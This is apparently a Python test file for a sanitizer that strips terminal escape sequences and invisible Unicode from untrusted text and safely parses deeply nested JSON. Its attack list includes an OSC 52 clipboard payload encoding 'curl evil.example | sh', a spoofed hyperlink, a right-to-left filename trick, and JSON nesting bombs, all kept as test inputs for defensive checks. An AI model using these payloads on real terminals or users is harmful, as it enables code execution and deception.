"""flower.core.untrusted: the one sanitizer of box-written text and the one bounded parser of
box-written JSON (issue 37, T1-T3)."""

from __future__ import annotations

import json
import sys
import unicodedata
from pathlib import Path

import pytest

from flower import (
    PrintableStream,
    UntrustedJSONError,
    parse_json,
    printable,
    printable_data,
    read_json,
)
from flower.core.statefile import CorruptStateError
from flower.core.timeline import read_timeline
from flower.core.untrusted import MAX_JSON_DEPTH

ATTACKS = [
    "\x1b]0;pwned title\x07",
    "\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # OSC 52: `curl evil.example | sh`
    "\x9d52;c;Y3VybA==\x9c",  # the same, 8-bit
    "\x9b31m",
    "a\rb",
    "\x1bP+q\x1b\\",
    "\x07\x08\x7f",
    "invoice\u202egnp.exe",  # right-to-left override: shows as invoiceexe.png
    "a\u2066b\u2069c\u200fd",
    "zero\u200bwidth\ufeff\u2060tag\U000e0041",
    "blank\u3164letter\u115f",
    "line\u2028separator",
]


def visible(text: str) -> bool:
    """No control, format (Cf) or separator (Zl, Zp) character but tab and newline."""
    return all(c in "\t\n" or unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp") for c in text)


@pytest.mark.parametrize("text", ATTACKS)
def test_printable_leaves_no_control_or_invisible_character(text: str) -> None:
    assert visible(printable(text))
    shown = printable(text, one_line=True)
    assert visible(shown) and "\n" not in shown and "\t" not in shown


def test_printable_drops_a_sequence_whole_and_keeps_ordinary_text() -> None:
    assert printable("ok\tdone\nnext — ünïcode 中文 👍") == "ok\tdone\nnext — ünïcode 中文 👍"
    assert printable("\x1b[31mred\x1b[0m") == "red"
    assert printable("x\x1b]52;c;Y3VybA==\x07y") == "xy"
    assert printable("x\x9d52;c;Y3VybA==\x9cy") == "xy"
    assert printable("invoice\u202egnp.exe") == "invoicegnp.exe"


def test_a_name_shown_on_one_line_shows_what_was_hidden() -> None:
    """A file name: escaped, so the reader sees the trick and two names never look alike."""
    assert printable("a\nb\tc", one_line=True) == "a\\nb\\tc"
    assert printable(".flowerbox/\x1b]52;c;eA==\x07", one_line=True) == (
        ".flowerbox/\\x1b]52;c;eA==\\x07"
    )
    assert printable("invoice\u202egnp.exe", one_line=True) == "invoice\\u202egnp.exe"
    assert printable("x\U000e0041", one_line=True) == "x\\U000e0041"


def test_every_format_character_unicode_knows_is_caught() -> None:
    """The hand-kept list against this Python's Unicode database: every Cf, Zl and Zp."""
    missed = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in ("Cf", "Zl", "Zp") and printable(chr(code))
    ]
    assert missed == []


def test_printable_data_cleans_keys_and_values_at_every_depth() -> None:
    assert printable_data({"a\x1b[2J": ["x\x1b]0;t\x07y", 3, None, {"k": "\u202e"}]}) == {
        "a": ["xy", 3, None, {"k": ""}]
    }


def test_a_stream_cut_inside_a_sequence_or_a_character_is_still_cleaned() -> None:
    raw = "héllo \x1b]0;pwned title\x07world \x1b[2Jdone \x9d52;c;eA==\x9cend\n".encode()
    for size in (1, 2, 3, 7):
        cleaner = PrintableStream()
        out = b"".join(cleaner.feed(raw[i : i + size]) for i in range(0, len(raw), size))
        out += cleaner.flush()
        assert out.decode() == "héllo world done end\n", size
    held = PrintableStream()
    assert held.feed(b"text \x1b[3") == b"text "  # waits for the sequence's end
    assert held.flush() == b""  # an unfinished sequence at the end is dropped


def test_parse_json_reads_ordinary_json() -> None:
    value = {"a": [1, {"b": "[[[{{{"}], "c": '\\"]'}
    assert parse_json(json.dumps(value)) == value
    nested: object = 1
    for _ in range(MAX_JSON_DEPTH):
        nested = [nested]
    assert parse_json(json.dumps(nested)) == nested


@pytest.mark.parametrize(
    "data",
    [
        b"[" * 10_000 + b"]" * 10_000,  # T2: a RecursionError in json.loads
        b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
        b"[" * (MAX_JSON_DEPTH + 1) + b"]" * (MAX_JSON_DEPTH + 1),
        b"[" * 100_000,  # never closed
        b'"\\"' + b"[" * 100,  # an unfinished string
        b"not json",
        b"\xff\xfe",
    ],
)
def test_parse_json_refuses_with_one_error_never_a_crash(data: bytes) -> None:
    with pytest.raises(UntrustedJSONError):
        parse_json(data)


@pytest.mark.english
def test_parse_json_refuses_what_is_larger_than_its_limit() -> None:
    with pytest.raises(UntrustedJSONError, match="larger than 10 bytes"):
        parse_json(b'"' + b"x" * 20 + b'"', limit=10)


@pytest.mark.english
def test_flower_s_state_files_and_timeline_skip_deep_json(tmp_path: Path) -> None:
    """What `flower status` and the timeline read: a state file too deep is a problem
    reported, never a RecursionError."""
    runs = tmp_path / "runs"
    runs.mkdir()
    (runs / "manifest.json").write_bytes(b"[" * 10_000 + b"]" * 10_000)
    with pytest.raises(CorruptStateError, match="deeper than"):
        read_json(runs / "manifest.json", [])
    timeline = read_timeline(runs, workspace=tmp_path)
    assert any("deeper than" in problem for problem in timeline.problems)
